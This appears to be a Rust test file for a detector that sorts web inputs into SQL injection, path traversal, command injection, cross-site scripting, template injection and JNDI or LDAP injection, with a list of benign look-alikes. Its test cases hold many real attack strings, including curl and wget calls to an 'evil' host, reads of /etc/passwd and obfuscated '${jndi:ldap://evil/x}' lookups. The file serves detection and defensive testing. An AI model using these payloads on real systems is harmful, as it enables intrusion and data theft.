//! What is a payload, and what only looks like one.

use super::*;
use proptest::prelude::*;

fn value(text: &str) -> Option<Payload> {
    let mut out = String::new();
    decode(text.as_bytes(), true, &mut out);
    of_value(&out)
}

fn path(text: &str) -> Option<Payload> {
    let mut out = String::new();
    let times = decode(text.as_bytes(), false, &mut out);
    of_path(&out, times)
}

#[test]
fn sql_is_seen() {
    for text in [
        "1' or '1'='1",
        "1%27%20OR%20%271%27%3D%271",
        "1 or 1=1",
        "' or 1=1--",
        "\" or \"\"=\"",
        "') or ('1'='1",
        "1 and 1=2",
        "admin'--",
        "admin' #",
        "x') -- -",
        "1 UNION SELECT null,null",
        "-1' union all select 1,2,3--",
        "1/**/union/**/select/**/username,password/**/from/**/users",
        "1; drop table users",
        "'; DELETE FROM users;",
        "1' and sleep(5)--",
        "1;select pg_sleep(5)",
        "1' waitfor delay '0:0:5'--",
        "1 order by 10--",
        "1 and extractvalue(1,concat(0x7e,version()))",
        "1%2527%2520or%25201%253D1--",
        "x' || '1'='1",
        "' or true--",
        "1' or 'a' like 'a",
        "1 union select @@version",
    ] {
        assert_eq!(value(text), Some(Payload::Sql), "{text}");
    }
}

#[test]
fn traversal_is_seen() {
    for text in [
        "../../../etc/passwd",
        "..%2f..%2f..%2fetc%2fpasswd",
        "....//../../../x",
        "/etc/passwd",
        "file:///etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "../x.php%00.png",
    ] {
        assert_eq!(value(text), Some(Payload::Traversal), "{text}");
    }
    for text in [
        "/static/../../etc/passwd",
        "/a/..%2f..%2f..%2fetc/passwd",
        "/%2e%2e/%2e%2e/x",
        "/a/b/%252e%252e/%252e%252e/x",
        "/a/..;/manager",
    ] {
        assert_eq!(path(text), Some(Payload::Traversal), "{text}");
    }
}

#[test]
fn commands_are_seen() {
    for text in [
        "127.0.0.1;id",
        "127.0.0.1|id",
        "127.0.0.1; cat /etc/passwd",
        "$(id)",
        "`id`",
        "x && curl http://evil/x",
        "a|whoami",
        ";sleep 5",
        "8.8.8.8%0aping -c 1 evil",
        "x;wget${IFS}http://evil",
        "$(/bin/cat /etc/passwd)",
    ] {
        assert_eq!(value(text), Some(Payload::Command), "{text}");
    }
}

#[test]
fn scripts_are_seen() {
    for text in [
        "<script>alert(1)</script>",
        "%3Cscript%3E",
        "\"><img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "javascript:alert(1)",
        "\" onmouseover=alert(1) x=\"",
        "<iframe src=//evil>",
        "<body onload=x()>",
    ] {
        assert_eq!(value(text), Some(Payload::Script), "{text}");
    }
}

#[test]
fn templates_and_lookups_are_seen() {
    for text in [
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{{7*'7'}}",
        "{{''.__class__.__mro__}}",
        "${T(java.lang.Runtime).getRuntime()}",
    ] {
        assert_eq!(value(text), Some(Payload::Template), "{text}");
    }
    for text in [
        "${jndi:ldap://evil/x}",
        "${${lower:j}ndi:${lower:l}dap://evil}",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://evil}",
        "%24%7Bjndi:dns://x%7D",
    ] {
        assert_eq!(value(text), Some(Payload::Lookup), "{text}");
    }
    assert_eq!(value("*)(uid=*))(|(uid=*"), Some(Payload::Ldap));
}

#[test]
fn what_people_and_programs_send_is_left_alone() {
    for text in [
        "",
        "O'Brien",
        "rock 'n' roll",
        "how to select a union representative",
        "credit union select plan, benefits from us",
        "select the best from our drop table",
        "union select",
        "it's 1 or 2",
        "a and b or c",
        "name eq 'x' or name eq 'y'",
        "status='open' and owner='me'",
        "price>5 and price<10",
        "5 and 6",
        "1 or 2 bedrooms",
        "tom & jerry",
        "a;b;c",
        "name|id",
        "id|name|ls",
        "id,name",
        "name;id",
        "fields=a|id",
        "sleep(5)",
        "{{name}}",
        "{{user.id}}",
        "${name}",
        "a<b",
        "x < 5 and y > 3",
        "<3",
        "1 < 2 > 0",
        "<b>bold</b>",
        "<p>text</p>",
        "javascript",
        "javascript: the good parts",
        "../home",
        "../../home",
        "a/../b",
        "etc/passwd",
        "what is /etc/passwd",
        "c# or java",
        "-- hello --",
        "'quoted' #1",
        "'hello' --",
        "100%",
        "50% or more",
        "2024-01-01 and 2024-02-01",
        "{\"a\":\"b or c\",\"d\":\"1=1\"}",
        "[\"x\",\"y\"]",
        "ping me at 5; echo is bad",
        "cats | dogs",
        "echo chamber",
        "https://x.example/a?b=c&d='e'",
        "john's and mary's",
        "5' or 6' tall",
        "\"exact phrase\" or \"other\"",
        "on = off",
        "(a OR b) AND (c OR d)",
        "title:\"x\" AND year:2020",
        "$filter=price gt 5 or id eq 7",
        "*",
        "(cn=x)",
        "drop table; insert coin",
    ] {
        assert_eq!(value(text), None, "{text}");
    }
    for text in [
        "/",
        "/orders/7",
        "/a/b/../c",
        "/static/x/y/../../z.png",
        "/files/my%20file%20(1).pdf",
        "/o'brien/x",
        "/a..b/c",
        "/v1/~me",
        "/it's-1-or-2",
        "/%E4%BD%A0",
        "/a;v=1/b;id=5",
    ] {
        assert_eq!(path(text), None, "{text}");
    }
}

proptest! {
    #[test]
    fn never_panics_and_stays_bounded(text in prop::collection::vec(any::<u8>(), 0..6000), plus in any::<bool>()) {
        let mut out = String::new();
        let times = decode(&text, plus, &mut out);
        prop_assert!(out.chars().count() <= MAX_TEXT && times <= 3);
        let _ = (of_value(&out), of_path(&out, times));
    }

    #[test]
    fn words_are_never_payloads(text in "[a-z]{1,8}( [a-z]{1,8}){0,6}") {
        prop_assert_eq!(value(&text), None);
    }

    #[test]
    fn grammar_in_any_order_never_panics(parts in prop::collection::vec(prop::sample::select(vec!["'", "or", " ", "1", "=", "union", "select", "<", "script", "on", "${", "{{", "7*7", "}", ";", "|", "id", "../", "/*", "*/", "--", "%27"]), 0..40)) {
        value(&parts.concat());
        path(&parts.concat());
    }
}
